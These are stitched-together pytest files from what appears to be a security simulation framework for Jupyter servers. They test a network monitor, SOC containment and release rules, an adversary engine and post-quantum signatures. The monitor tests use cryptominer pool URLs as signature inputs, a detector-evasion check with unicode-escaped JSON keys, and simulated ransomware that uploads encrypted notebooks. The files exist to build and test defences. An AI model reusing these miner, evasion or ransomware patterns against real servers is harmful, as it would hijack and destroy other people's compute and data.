        assert notice.detail["slo"] == spec.name
        (row,) = ev.report()
        assert (row["good"], row["bad"]) == (1.0, 1.0)


# -- timeline merge tie-break -------------------------------------------------

class TestTimelineMergeTieBreak:
    def test_identical_sim_times_order_by_source_then_seq(self):
        """Two shards stamping identical sim-times must merge to the
        same byte sequence regardless of argument order."""
        a = EventTimeline()
        b = EventTimeline()
        for ts in (1.0, 1.0, 2.0):
            a.record(ts, "proxy.routed", source="shard-b")  # note: b first
            b.record(ts, "proxy.routed", source="shard-a")
        ab = [(e.ts, e.source, e.seq) for e in merge_timelines(a, b)]
        ba = [(e.ts, e.source, e.seq) for e in merge_timelines(b, a)]
        assert ab == ba
        assert ab == sorted(ab)
        assert ab[0] == (1.0, "shard-a", 1)
        assert ab[1] == (1.0, "shard-a", 2)
        assert ab[2] == (1.0, "shard-b", 1)


# -- exporter edge cases ------------------------------------------------------

class TestExporterEdgeCases:
    def test_empty_registry_exports_validate(self):
        reg = MetricsRegistry()
        assert validate_prometheus(render_prometheus(reg)) == []
        text = render_metrics_jsonl(reg)
        assert validate_jsonl(text, required_keys=("name", "value")) == []
        header = json.loads(text.splitlines()[0])
        assert header == {"kind": "metrics", "schema_version": SCHEMA_VERSION}

    def test_schema_drift_is_rejected_with_a_clear_message(self):
        reg = MetricsRegistry()
        reg.counter("x_total", "x")
        with pytest.raises(ValueError, match="already registered as counter"):
            reg.gauge("x_total", "x")
        reg.counter("y_total", "y", labels=("a",))
        with pytest.raises(ValueError, match="already registered"):
            reg.counter("y_total", "y", labels=("b",))

    def test_timeline_wraparound_counts_drops_and_stays_valid(self):
        tl = EventTimeline(capacity=4)
        for i in range(10):
            tl.record(float(i), "proxy.routed", source="hub0", n=i)
        assert tl.dropped == 6
        assert len(tl) == 4
        assert [e.seq for e in tl.events()] == [7, 8, 9, 10]
        text = render_timeline_jsonl(tl)
        assert validate_jsonl(text, required_keys=TIMELINE_REQUIRED_KEYS) == []

    def test_unknown_schema_version_is_rejected(self):
        assert validate_schema_version({}, "BENCH_OBS.json") == [
            "BENCH_OBS.json: missing schema_version "
            f"(this reader requires version {SCHEMA_VERSION})"]
        (problem,) = validate_schema_version({"schema_version": 99})
        assert "unsupported schema_version 99" in problem
        assert "re-export with a matching writer" in problem
        assert validate_schema_version(
            {"schema_version": SCHEMA_VERSION}) == []

    def test_tampered_jsonl_header_fails_validation(self):
        reg = MetricsRegistry()
        reg.counter("x_total", "x").inc()
        lines = render_metrics_jsonl(reg).splitlines()
        lines[0] = json.dumps({"kind": "metrics", "schema_version": 2})
        problems = validate_jsonl("\n".join(lines))
        assert problems and "unsupported schema_version 2" in problems[0]


# -- end-to-end: fleet observability on a live world -------------------------

def _build(topology, *, seed, n_tenants=6, profile=False, slos=()):
    from dataclasses import replace

    from repro.hub.users import insecure_hub_config
    from repro.topology import WorldBuilder, resolve_spec

    spec = resolve_spec(topology, n_tenants=n_tenants,
                        hub_config=insecure_hub_config())
    if profile:
        spec = replace(spec, telemetry=replace(spec.telemetry, profile=True))
    if slos:
        spec = replace(spec, slos=tuple(slos))
    return WorldBuilder().build(spec, seed=seed)


def _run(topology, campaign, *, seed, **kw):
    from repro.attacks.campaign import run_campaign
    from repro.soc.replay import CANNED

    scenario = _build(topology, seed=seed, **kw)
    run_campaign(scenario, CANNED[campaign]())
    return scenario


class TestEndToEndFleet:
    def test_profiled_exfil_run_names_the_real_hot_paths(self):
        s = _run("defended-hub", "exfil", seed=7, n_tenants=2, profile=True)
        prof = s.telemetry.profiler
        assert prof is not None
        prof.ingest_spans(s.telemetry.tracer)
        flame = prof.collapsed("units")
        assert flame
        leaves = {line.rsplit(" ", 1)[0].rsplit(";", 1)[-1]
                  for line in flame.splitlines()}
        assert {"_feed_ws", "probe_ws_canonical", "scan_jupyter"} <= leaves

    def test_profiled_run_is_byte_reproducible(self):
        flames = []
        for _ in range(2):
            s = _run("defended-hub", "exfil", seed=7, n_tenants=2,
                     profile=True)
            s.telemetry.profiler.ingest_spans(s.telemetry.tracer)
            flames.append(s.telemetry.profiler.collapsed("units") +
                          s.telemetry.profiler.collapsed("sim"))
        assert flames[0] == flames[1]

    def test_profiling_does_not_perturb_the_world(self):
        on = _run("defended-hub", "exfil", seed=7, n_tenants=2, profile=True)
        off = _run("defended-hub", "exfil", seed=7, n_tenants=2)
        assert off.telemetry.profiler is None
        assert [n.name for n in on.monitor.logs.notices] == \
            [n.name for n in off.monitor.logs.notices]
        assert on.soc.summary()["actions"] == off.soc.summary()["actions"]

    def test_slo_burn_closes_the_loop_on_a_padded_geo_fleet(self):
        """The acceptance run: a padded sharded fleet burns the
        shaping-delay objective, the SOC opens an SLO_BURN incident,
        and shed-padding-on-burn drops the jitter fleet-wide."""
        slos = DEFAULT_SLOS + (SHAPING_DELAY_SLO,)
        s = _run("defended-padded-sharded-hub-geo", "pivot", seed=4242,
                 slos=slos)
        incidents = [i for i in s.soc.correlator.incidents.values()
                     if "SLO_BURN" in i.notice_names]
        assert incidents, "the padded fleet must burn the shaping SLO"
        assert any(i.source == "slo:shaping-delay" for i in incidents)
        sheds = [a for a in s.soc.executed
                 if a.rule == "shed-padding-on-burn" and a.ok
                 and not a.dry_run]
        assert sheds, "the playbook must relax padding on SLO_BURN"
        for proxy in s.soc.actions.proxies:
            if proxy.padder is not None:
                assert proxy.padder.policy.max_jitter == 0.0

    def test_fleet_quantiles_span_three_shards(self):
        s = _run("defended-padded-sharded-hub-geo", "pivot", seed=4242)
        views = shard_views(s.telemetry.registry, label="proxy")
        assert len(views) >= 3
        fed = FederatedScraper()
        fed.scrape_all(views)
        q = fed.fleet_quantiles("proxy_request_seconds")
        assert set(q) == {"p50", "p99"}
        assert q["p99"] > 0.0
        per_shard = fed.shard_quantile("proxy_request_seconds", 0.99)
        assert len(per_shard) >= 3
