"""Integration tests: monitor attached to the live simnet world."""

import pytest

from repro.monitor import AnalyzerDepth, JupyterNetworkMonitor
from repro.monitor.signatures import Signature, SignatureEngine
from repro.server import JupyterServer, ServerConfig, ServerGateway, WebSocketKernelClient
from repro.simnet import Network
from repro.taxonomy.oscrp import Avenue


def make_monitored_world(*, depth=AnalyzerDepth.JUPYTER, token="tok", budget=0.0, key=b""):
    net = Network(default_latency=0.001)
    server_host = net.add_host("jupyter", "10.0.0.1")
    client_host = net.add_host("laptop", "10.0.0.2")
    tap = net.add_tap()
    cfg = ServerConfig(ip="0.0.0.0", token=token)
    if key:
        cfg.session_key = key
    server = JupyterServer(cfg, net, server_host)
    ServerGateway(server)
    monitor = JupyterNetworkMonitor(depth=depth, budget_events_per_second=budget,
                                    session_key=key)
    monitor.attach(tap)
    client = WebSocketKernelClient(client_host, server_host, token=token)
    return net, server, monitor, client


class TestProtocolVisibility:
    def test_http_transactions_logged(self):
        _, _, monitor, client = make_monitored_world()
        client.request("GET", "/api/status")
        recs = [r for r in monitor.logs.http if r.path == "/api/status"]
        assert recs and recs[0].status == 200
        assert recs[0].has_auth

    def test_conn_records_with_service(self):
        _, _, monitor, client = make_monitored_world()
        client.request("GET", "/api/status")
        assert any(c.service == "http" for c in monitor.logs.conn)

    def test_websocket_and_jupyter_records(self):
        _, _, monitor, client = make_monitored_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("1 + 1")
        assert any(c.service == "websocket" for c in monitor.logs.conn)
        assert monitor.logs.websocket
        exec_msgs = [j for j in monitor.logs.jupyter if j.msg_type == "execute_request"]
        assert exec_msgs and exec_msgs[0].code == "1 + 1"

    def test_zmtp_records_from_kernel_loopback(self):
        _, _, monitor, client = make_monitored_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("2 + 2")
        assert monitor.logs.zmtp
        zmtp_jupyter = [j for j in monitor.logs.jupyter if j.channel == "zmtp"]
        assert any(j.msg_type == "execute_request" for j in zmtp_jupyter)

    def test_depth_http_skips_websocket(self):
        _, _, monitor, client = make_monitored_world(depth=AnalyzerDepth.HTTP)
        client.start_kernel()
        client.connect_channels()
        client.execute("1")
        assert monitor.logs.http
        assert not monitor.logs.websocket
        assert not monitor.logs.jupyter

    def test_depth_conn_sees_only_flows(self):
        _, _, monitor, client = make_monitored_world(depth=AnalyzerDepth.CONN)
        client.request("GET", "/api/status")
        assert monitor.logs.conn
        assert not monitor.logs.http

    def test_signature_verification_with_key(self):
        key = b"shared-session-key"
        _, _, monitor, client = make_monitored_world(key=key)
        client.start_kernel()
        client.connect_channels()
        client.execute("1")
        checked = [j for j in monitor.logs.jupyter if j.signature_ok is not None]
        assert checked and all(j.signature_ok for j in checked)


class TestDetectionIntegration:
    def test_bruteforce_detected_from_http(self):
        _, _, monitor, client = make_monitored_world()
        client.token = "wrong-token"
        for _ in range(12):
            client.request("GET", "/api/status")
        assert "AUTH_BRUTEFORCE" in monitor.logs.notice_names()

    def test_signature_fires_on_malicious_cell(self):
        _, _, monitor, client = make_monitored_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("url = 'stratum+tcp://pool.minexmr.com:4444'")
        assert "SIG-MINER-POOL" in monitor.logs.notice_names()
        notice = next(n for n in monitor.logs.notices if n.name == "SIG-MINER-POOL")
        assert notice.avenue == Avenue.CRYPTOMINING

    def test_benign_session_no_notices(self):
        _, _, monitor, client = make_monitored_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("data = [x * 2 for x in range(100)]")
        client.execute("print(sum(data))")
        high = [n for n in monitor.logs.notices if n.severity in ("high", "critical")]
        assert high == []

    def test_custom_signature_ingestion(self):
        engine = SignatureEngine()
        engine.add(Signature("SIG-CUSTOM-1", "test rule", "jupyter-code", r"EVIL_MARKER_XYZ",
                             avenue=Avenue.ZERO_DAY, source="intel"))
        net = Network(default_latency=0.001)
        sh = net.add_host("jupyter", "10.0.0.1")
        ch = net.add_host("laptop", "10.0.0.2")
        tap = net.add_tap()
        server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"), net, sh)
        ServerGateway(server)
        monitor = JupyterNetworkMonitor(signatures=engine)
        monitor.attach(tap)
        client = WebSocketKernelClient(ch, sh, token="tok")
        client.start_kernel()
        client.connect_channels()
        client.execute("x = 'EVIL_MARKER_XYZ'")
        assert "SIG-CUSTOM-1" in monitor.logs.notice_names()

    def test_scan_detection_from_refused_probes(self):
        net, server, monitor, client = make_monitored_world()
        attacker = net.add_host("attacker", "6.6.6.6")
        from repro.util.errors import ReproError

        for port in range(8800, 8815):
            try:
                attacker.connect(server.host, port)
            except ReproError:
                pass
        assert "PORT_SCAN" in monitor.logs.notice_names()

    def test_entropy_burst_via_contents_api(self):
        """Ransomware via REST: PUT encrypted bodies over the network."""
        from repro.crypto.chacha20 import chacha20_encrypt

        _, _, monitor, client = make_monitored_world()
        for i in range(6):
            blob = chacha20_encrypt(b"\x22" * 32, b"\x00" * 12, b"victim notebook " * 64)
            client.json("PUT", f"/api/contents/f{i}.ipynb.locked",
                        {"type": "file", "format": "base64", "content":
                         __import__("base64").b64encode(blob).decode()})
        assert "RANSOMWARE_ENTROPY_BURST" in monitor.logs.notice_names()


class TestMsgIdDedupe:
    """One kernel message crosses the tap as both a WS and a ZMTP leg;
    the analyzer pays the content parse + detector fan-out once."""

    def test_ws_and_zmtp_legs_both_logged_one_scan(self):
        _, _, monitor, client = make_monitored_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("6 * 7")
        ws_execs = [j for j in monitor.logs.jupyter
                    if j.msg_type == "execute_request" and j.channel != "zmtp"]
        zmtp_execs = [j for j in monitor.logs.jupyter
                      if j.msg_type == "execute_request" and j.channel == "zmtp"]
        assert ws_execs and zmtp_execs  # both legs still produce records
        # The first (WS) leg carried the full analysis...
        assert ws_execs[0].code == "6 * 7"
        # ...the ZMTP leg skipped the duplicate content parse.
        assert zmtp_execs[0].code == ""
        assert monitor.health.jupyter_dedup_hits > 0
        assert 0.0 < monitor.health.dedupe_hit_rate < 1.0
        assert monitor.summary()["health"]["jupyter_dedupe_rate"] == \
            round(monitor.health.dedupe_hit_rate, 4)

    def test_signature_fires_once_per_message_not_per_leg(self):
        _, _, monitor, client = make_monitored_world()
        client.start_kernel()
        client.connect_channels()
        client.execute("s = 'stratum+tcp://pool.example:3333'")
        miner = [n for n in monitor.logs.notices if n.name == "SIG-MINER-POOL"]
        # Two distinct messages carry the pattern (execute_request and
        # the iopub execute_input echo) — one notice each, not one per
        # wire leg (the seed fired four times here).
        assert len(miner) == 2
        assert {n.detail["msg_type"] for n in miner} == \
            {"execute_request", "execute_input"}

    def test_dedupe_can_be_disabled(self):
        net = Network(default_latency=0.001)
        server_host = net.add_host("jupyter", "10.0.0.1")
        client_host = net.add_host("laptop", "10.0.0.2")
        tap = net.add_tap()
        server = JupyterServer(ServerConfig(ip="0.0.0.0", token="tok"),
                               net, server_host)
        ServerGateway(server)
        monitor = JupyterNetworkMonitor(dedupe_msg_ids=False)
        monitor.attach(tap)
        client = WebSocketKernelClient(client_host, server_host, token="tok")
        client.start_kernel()
        client.connect_channels()
        client.execute("s = 'stratum+tcp://pool.example:3333'")
        miner = [n for n in monitor.logs.notices if n.name == "SIG-MINER-POOL"]
        assert len(miner) == 4  # the seed's one-fire-per-leg behavior
        assert monitor.health.jupyter_dedup_hits == 0

    def test_hmac_verification_still_runs_on_deduped_zmtp_leg(self):
        key = b"shared-session-key"
        _, _, monitor, client = make_monitored_world(key=key)
        client.start_kernel()
        client.connect_channels()
        client.execute("1")
        checked = [j for j in monitor.logs.jupyter if j.signature_ok is not None]
        assert checked and all(j.signature_ok for j in checked)
        assert monitor.health.jupyter_dedup_hits > 0

    def test_dedupe_store_is_bounded(self):
        from repro.monitor.engine import _MSG_DEDUPE_CAP

        monitor = JupyterNetworkMonitor()
        for i in range(_MSG_DEDUPE_CAP + 100):
            monitor._mark_msg(f"msg-{i}", 1)
        assert len(monitor._seen_msg_ids) == _MSG_DEDUPE_CAP


class TestMonitorHealth:
    def test_budget_forces_drops(self):
        _, _, monitor, client = make_monitored_world(budget=5)
        client.start_kernel()
        client.connect_channels()
        client.execute("sum(range(100))")
        assert monitor.health.segments_dropped > 0
        assert monitor.health.drop_rate > 0

    def test_unlimited_budget_no_drops(self):
        _, _, monitor, client = make_monitored_world()
        client.request("GET", "/api/status")
        assert monitor.health.segments_dropped == 0

    def test_summary_shape(self):
        _, _, monitor, client = make_monitored_world()
        client.request("GET", "/api/status")
        s = monitor.summary()
        assert s["depth"] == "JUPYTER"
        assert s["logs"]["http"] >= 1
        assert s["health"]["segments"] > 0

    def test_unicode_escaped_code_key_still_scanned(self):
        """The raw b'\"code\"' prefilter must not be evadable with JSON
        unicode escapes: \\u0063ode decodes to the same key."""
        import json as _json

        from repro.monitor import JupyterNetworkMonitor

        monitor = JupyterNetworkMonitor()
        payload = (b'{"channel": "shell", "header": {"msg_type": "execute_request", '
                   b'"session": "s"}, "content": {"\\u0063ode": '
                   + _json.dumps("url = 'stratum+tcp://pool.minexmr.com:4444'").encode()
                   + b'}}')
        assert _json.loads(payload)["content"]["code"].startswith("url")
        records, notices, weird = [], [], []
        monitor._analyze_jupyter_ws(1.0, "uid", "6.6.6.6", "10.0.0.1", payload,
                                    records, notices, weird)
        assert records and records[0].code.startswith("url")
        assert any(n.name == "SIG-MINER-POOL" for n in notices)

    def test_http_direction_buffer_is_capped(self):
        """An HTTP-looking stream that never completes a message must be
        marked broken at the cap, not grow monitor memory forever."""
        net, server, monitor, client = make_monitored_world()
        monitor.max_buffered_bytes = 4096
        raw = net.hosts["laptop"].connect(server.host, 8888)
        raw.send_to_server(b"GET /drip HTTP/1.1\r\nX-Pad: " + b"A" * 20000)
        net.run(1.0)
        assert any(w.name == "parse_error" and "cap" in w.detail
                   for w in monitor.logs.weird)
        assert all(len(s.buffer) <= 4096 + 1500  # cap + one in-flight segment
                   for s in monitor._dirstate.values())

    def test_per_layer_byte_counters(self):
        """MonitorHealth reports how many bytes each analyzer consumed."""
        _, _, monitor, client = make_monitored_world()
        client.request("GET", "/api/status")
        client.start_kernel()
        client.connect_channels()
        client.execute("1 + 1")
        layer = monitor.health.layer_bytes()
        assert layer["http"] > 0
        assert layer["websocket"] > 0
        assert layer["zmtp"] > 0
        # Layer consumption never exceeds what crossed the wire, and the
        # summary exposes the same numbers.
        assert sum(layer.values()) <= monitor.health.bytes_seen
        assert monitor.summary()["health"]["layer_bytes"] == layer

    def test_garbage_traffic_goes_weird_not_crash(self):
        net, server, monitor, client = make_monitored_world()
        # Speak garbage at the HTTP port.
        raw = net.hosts["laptop"].connect(server.host, 8888)
        raw.send_to_server(b"GET / HTTP/1.1\r\nbroken header no colon\r\n\r\n")
        net.run(0.5)
        assert monitor.health.parse_errors >= 1
        assert monitor.logs.weird
