"""Tests for the hash-based post-quantum signature schemes."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.crypto.pq import WOTS, LamportOTS, MerkleSignature, MerkleSigner

SEED = b"\xaa" * 32


class TestLamport:
    def test_sign_verify(self):
        s = LamportOTS(SEED)
        sig = s.sign([b"execute_request"])
        assert s.verify([b"execute_request"], sig)

    def test_verify_rejects_other_message(self):
        s = LamportOTS(SEED)
        sig = s.sign([b"msg"])
        verifier = LamportOTS(SEED)
        assert not verifier.verify([b"other"], sig)

    def test_verify_rejects_bitflip(self):
        s = LamportOTS(SEED)
        sig = bytearray(s.sign([b"msg"]))
        sig[0] ^= 1
        assert not s.verify([b"msg"], bytes(sig))

    def test_verify_rejects_wrong_length(self):
        s = LamportOTS(SEED)
        assert not s.verify([b"msg"], b"short")

    def test_one_time_enforced(self):
        s = LamportOTS(SEED)
        s.sign([b"first"])
        with pytest.raises(RuntimeError):
            s.sign([b"second"])

    def test_resigning_same_message_ok(self):
        s = LamportOTS(SEED)
        assert s.sign([b"same"]) == s.sign([b"same"])

    def test_signature_size(self):
        assert len(LamportOTS(SEED).sign([b"m"])) == 256 * 32

    def test_seed_too_short(self):
        with pytest.raises(ValueError):
            LamportOTS(b"tiny")

    def test_quantum_resistant_flag(self):
        assert LamportOTS(SEED).quantum_resistant


class TestWOTS:
    def test_sign_verify(self):
        s = WOTS(SEED)
        sig = s.sign([b"hello"])
        assert s.verify([b"hello"], sig)

    def test_cross_instance_verify(self):
        signer = WOTS(SEED)
        verifier = WOTS(SEED)
        assert verifier.verify([b"m"], signer.sign([b"m"]))

    def test_rejects_tampered_message(self):
        s = WOTS(SEED)
        sig = s.sign([b"m"])
        assert not WOTS(SEED).verify([b"m2"], sig)

    def test_rejects_tampered_signature(self):
        s = WOTS(SEED)
        sig = bytearray(s.sign([b"m"]))
        sig[5] ^= 0xFF
        assert not s.verify([b"m"], bytes(sig))

    def test_smaller_than_lamport(self):
        assert len(WOTS(SEED).sign([b"m"])) < len(LamportOTS(SEED).sign([b"m"]))

    def test_w_parameter_sizes(self):
        # Larger w -> fewer chains -> smaller signatures.
        s4 = WOTS(SEED, w=4)
        s256 = WOTS(SEED, w=256)
        assert len(s256.sign([b"m"])) < len(s4.sign([b"m"]))
        assert s4.verify([b"m"], s4.sign([b"m"]))
        assert s256.verify([b"m"], s256.sign([b"m"]))

    def test_invalid_w(self):
        with pytest.raises(ValueError):
            WOTS(SEED, w=3)

    def test_one_time_enforced(self):
        s = WOTS(SEED)
        s.sign([b"a"])
        with pytest.raises(RuntimeError):
            s.sign([b"b"])

    @settings(max_examples=10, deadline=None)
    @given(st.binary(min_size=1, max_size=64))
    def test_property_roundtrip(self, msg):
        s = WOTS(SEED)
        assert s.verify([msg], s.sign([msg]))


class TestMerkle:
    def test_many_time_signing(self):
        s = MerkleSigner(SEED, height=2)
        msgs = [b"m0", b"m1", b"m2", b"m3"]
        sigs = [s.sign([m]) for m in msgs]
        verifier = MerkleSigner(SEED, height=2)
        for m, sig in zip(msgs, sigs):
            assert verifier.verify([m], sig)

    def test_capacity_exhaustion(self):
        s = MerkleSigner(SEED, height=1)
        s.sign([b"a"])
        s.sign([b"b"])
        with pytest.raises(RuntimeError):
            s.sign([b"c"])

    def test_remaining_counter(self):
        s = MerkleSigner(SEED, height=2)
        assert s.remaining == 4
        s.sign([b"x"])
        assert s.remaining == 3

    def test_rejects_cross_message(self):
        s = MerkleSigner(SEED, height=1)
        sig = s.sign([b"m"])
        assert not s.verify([b"other"], sig)

    def test_rejects_garbage(self):
        s = MerkleSigner(SEED, height=1)
        assert not s.verify([b"m"], b"\x00" * 10)
        assert not s.verify([b"m"], b"")

    def test_rejects_truncated_auth_path(self):
        s = MerkleSigner(SEED, height=2)
        sig = MerkleSignature.decode(s.sign([b"m"]))
        sig.auth_path = sig.auth_path[:-1]
        assert not s.verify([b"m"], sig.encode())

    def test_signature_encoding_roundtrip(self):
        s = MerkleSigner(SEED, height=2)
        raw = s.sign([b"m"])
        ms = MerkleSignature.decode(raw)
        assert ms.encode() == raw

    def test_invalid_height(self):
        with pytest.raises(ValueError):
            MerkleSigner(SEED, height=0)

    def test_different_leaves_different_sigs(self):
        s = MerkleSigner(SEED, height=1)
        assert s.sign([b"same"]) != s.sign([b"same"])  # different leaf index
