"""Tests for the adaptive adversary engine and the SOC un-containment
path it exploits: attack-surface feedback classification, strategies,
resumable campaign plans, blocklist/intel expiry, quarantine
auto-release, re-entry-after-rotation with agreeing counters, and the
adaptation metrics."""

import pytest

from repro.adversary import (
    AdversaryAgent,
    AdversaryPolicy,
    ArmsRaceRunner,
    StrategyMatrixRunner,
    build_plan,
    classify,
    list_strategies,
    make_strategy,
)
from repro.attacks.campaign import Campaign, CampaignPlan
from repro.attacks.exfiltration import ExfiltrationAttack, LowAndSlowExfiltration
from repro.attacks.hubpivot import CrossTenantPivotAttack
from repro.attacks.takeover import StolenTokenAttack
from repro.eval.metrics import (
    containment_half_life,
    cost_per_exfiltrated_byte,
    defense_coverage_decay,
    time_to_reentry,
)
from repro.honeypot.intel import Indicator
from repro.monitor.logs import Notice
from repro.soc import ResponsePolicy, tightened
from repro.taxonomy.oscrp import Avenue
from repro.topology import WorldBuilder, WorldSpec, defend, spec_preset, versus
from repro.topology.spec import ServerSpec


def notice(name="CROSS_TENANT_SWEEP", *, ts, src="203.0.113.66",
           severity="high", avenue=Avenue.ACCOUNT_TAKEOVER, detail=None,
           detector="tenant-sweep"):
    return Notice(ts=ts, detector=detector, name=name, severity=severity,
                  src=src, avenue=avenue, detail=detail or {})


def build_defended(policy, **kw):
    from repro.hub.users import insecure_hub_config

    kw.setdefault("n_tenants", 2)
    kw.setdefault("hub_config", insecure_hub_config())
    kw.setdefault("seed_data", False)
    spec = defend(spec_preset("hub", **kw), policy)
    return WorldBuilder().build(spec, seed=99)


class TestFeedbackClassification:
    def test_classify_table(self):
        assert classify(403, b'{"message": "Forbidden: source x is '
                             b'blocked by security policy"}') == "blocked"
        assert classify(403, b'{"message": "Forbidden: invalid token"}') == "denied"
        assert classify(503, b'{"message": "server not running"}') == "quarantined"
        assert classify(404, b"{}") == "not-found"
        assert classify(200, b"{}") == "ok"

    def test_probe_sees_edge_block(self):
        s = build_defended(ResponsePolicy())
        agent = AdversaryAgent(s, strategy=make_strategy(
            "static", AdversaryPolicy()), policy=AdversaryPolicy())
        assert agent.check_access().kind == "ok"
        s.proxy.block_source(s.attacker_host.ip)
        event = agent.check_access()
        assert event.kind == "blocked"
        assert not agent.has_access
        assert len(agent.evictions) == 1

    def test_probe_sees_quarantine(self):
        s = build_defended(ResponsePolicy())
        agent = AdversaryAgent(s, strategy=make_strategy(
            "static", AdversaryPolicy()), policy=AdversaryPolicy())
        s.spawner.quarantine(s.default_tenant)
        assert agent.check_access().kind == "quarantined"


class TestCampaignPlan:
    def plan(self):
        return CampaignPlan(Campaign(1, [StolenTokenAttack(),
                                         ExfiltrationAttack()], "steal"))

    def test_stages_resume_until_attempts_exhausted(self):
        plan = self.plan()
        stage = plan.next_stage()
        plan.record(stage, None, completed=False)
        assert stage.status == "pending" and plan.next_stage() is stage
        plan.record(stage, None, completed=False)
        plan.record(stage, None, completed=False)
        assert stage.status == "failed"
        assert plan.next_stage() is not stage

    def test_replace_resets_budget(self):
        plan = self.plan()
        bulk = plan.stages[1]
        fresh = plan.replace(bulk, LowAndSlowExfiltration(total_bytes=100))
        assert isinstance(plan.stages[1].attack, LowAndSlowExfiltration)
        assert fresh.attempts == 0

    def test_abandon_and_append(self):
        plan = self.plan()
        plan.abandon(plan.stages[0])
        plan.record(plan.stages[1], None, completed=True)
        assert plan.done
        plan.append(ExfiltrationAttack())
        assert not plan.done

    def test_build_plan_objectives(self):
        assert [s.attack.name for s in build_plan("pivot", waves=2).stages] == \
            ["stolen-token", "cross-tenant-pivot", "cross-tenant-pivot"]
        assert [s.attack.name for s in build_plan("steal", waves=1).stages] == \
            ["stolen-token", "data-exfiltration"]
        with pytest.raises(KeyError):
            build_plan("ransom")


class TestPivotTargeting:
    def test_targets_skip_enumeration_and_avoid_filters(self):
        from repro.hub import build_hub_scenario, insecure_hub_config

        s = build_hub_scenario(n_tenants=3, hub_config=insecure_hub_config(),
                               seed_data=False)
        result = CrossTenantPivotAttack(
            targets=["user01", "user02"], avoid={"user02"},
            request_delay=0.1).run(s)
        assert result.metrics["tenants_enumerated"] == 1
        assert result.metrics["tenants_accessed"] == 1


class TestSpecAndBuilder:
    def test_adversary_on_single_server_rejected(self):
        with pytest.raises(ValueError, match="hub topology"):
            WorldSpec(name="bad", server=ServerSpec(),
                      adversary=AdversaryPolicy())

    def test_adaptive_presets_armed_on_both_sides(self):
        for name in ("adaptive-hub", "adaptive-sharded-hub",
                     "adaptive-honeypot-hub", "adaptive-sharded-hub-geo"):
            spec = spec_preset(name)
            assert spec.adaptive and spec.defended, name
            assert spec.response.block_ttl > 0
            assert spec.response.quarantine_release_after > 0
            assert spec.monitor.renotify_interval < 300.0

    def test_versus_wraps_any_hub_spec(self):
        spec = versus(spec_preset("sharded-honeypot-hub"))
        assert spec.name == "adaptive-sharded-honeypot-hub"
        assert spec.adversary is not None and spec.defended

    def test_builder_provisions_pool_and_accounts(self):
        spec = spec_preset("adaptive-hub", n_tenants=3, seed_data=False,
                           adversary=AdversaryPolicy(source_pool_size=2,
                                                     compromised_accounts=2))
        s = WorldBuilder().build(spec, seed=5)
        assert [h.ip for h in s.adversary_pool] == \
            ["203.0.113.100", "203.0.113.101"]
        assert [name for name, _ in s.compromised_accounts] == \
            ["user00", "user01"]
        for name, token in s.compromised_accounts:
            assert s.hub.users[name].token == token

    def test_geo_defended_preset_registered(self):
        spec = spec_preset("defended-sharded-hub-geo")
        assert spec.defended and spec.links


class TestUncontainment:
    def test_block_ttl_expiry_then_recontainment(self):
        s = build_defended(ResponsePolicy(block_ttl=30.0))
        soc = s.soc
        ip = "203.0.113.66"
        s.monitor.logs.notices.append(notice(
            ts=s.clock.now(), src=ip, detail={"example_tenants": ["user00"]}))
        soc.poll()
        assert ip in s.proxy.blocked_sources
        # Quiet period elapses: the event-loop polls release the block.
        # (Run past the rule's 60 s cooldown too, so the re-offense
        # below is eligible to re-fire.)
        s.run(70.0)
        assert ip not in s.proxy.blocked_sources
        assert soc.released_total == 1
        release = [a for a in soc.release_actions()
                   if a.rule == "block-ttl-expiry"]
        assert release and release[0].target == ip
        # The source re-offends (cooldown long past, new evidence):
        # re-blocked, and the re-containment counter agrees.
        s.monitor.logs.notices.append(notice(ts=s.clock.now(), src=ip))
        soc.poll()
        assert ip in s.proxy.blocked_sources
        assert soc.re_contained_total == 1

    def test_block_ttl_zero_is_permanent(self):
        s = build_defended(ResponsePolicy(block_ttl=0.0))
        s.monitor.logs.notices.append(notice(ts=s.clock.now()))
        s.soc.poll()
        s.run(120.0)
        assert "203.0.113.66" in s.proxy.blocked_sources
        assert s.soc.released_total == 0

    def test_quarantine_auto_release_after_quiet_period(self):
        s = build_defended(ResponsePolicy(quarantine_release_after=25.0))
        node_ip = s.spawner.active["user00"].host.ip
        s.monitor.logs.notices.append(notice(
            ts=s.clock.now(), name="EXFIL_VOLUME", src=node_ip,
            avenue=Avenue.DATA_EXFILTRATION, detector="egress-volume"))
        s.soc.poll()
        # Node-level attribution quarantines every tenant on the node.
        assert {"user00", "user01"} <= s.spawner.quarantined
        s.run(35.0)
        assert s.spawner.quarantined == set()
        assert s.soc.released_total == 2
        # The tenant can spawn again.
        assert s.spawner.spawn(s.hub.users["user00"]).username == "user00"

    def test_quarantine_release_resets_on_new_evidence(self):
        s = build_defended(ResponsePolicy(quarantine_release_after=30.0))
        node_ip = s.spawner.active["user00"].host.ip
        s.monitor.logs.notices.append(notice(
            ts=s.clock.now(), name="EXFIL_VOLUME", src=node_ip,
            avenue=Avenue.DATA_EXFILTRATION, detector="egress-volume"))
        s.soc.poll()
        s.run(20.0)  # not quiet long enough...
        s.monitor.logs.notices.append(notice(
            ts=s.clock.now(), name="EXFIL_VOLUME", src=node_ip,
            avenue=Avenue.DATA_EXFILTRATION, detector="egress-volume"))
        s.soc.poll()
        s.run(20.0)  # ...and fresh evidence restarted the clock
        assert "user00" in s.spawner.quarantined
        s.run(20.0)
        assert "user00" not in s.spawner.quarantined

    def test_intel_block_expires_with_ttl(self):
        spec = defend(spec_preset("honeypot-hub", n_tenants=2),
                      ResponsePolicy(intel_ttl=20.0))
        s = WorldBuilder().build(spec, seed=7)
        now = s.clock.now()
        s.fleet.feed.publish(Indicator(
            indicator_id="ind-src-198.18.0.9", indicator_type="source-ip",
            pattern="198.18.0.9", description="burned on decoy",
            confidence=0.95, source="honeypot:test", created=now))
        assert "198.18.0.9" in s.proxy.blocked_sources
        s.run(30.0)
        assert "198.18.0.9" not in s.proxy.blocked_sources
        assert any(a.rule == "intel-expiry" for a in s.soc.release_actions())

    def test_indicator_valid_until_beats_policy_ttl(self):
        spec = defend(spec_preset("honeypot-hub", n_tenants=2),
                      ResponsePolicy(intel_ttl=1000.0))
        s = WorldBuilder().build(spec, seed=7)
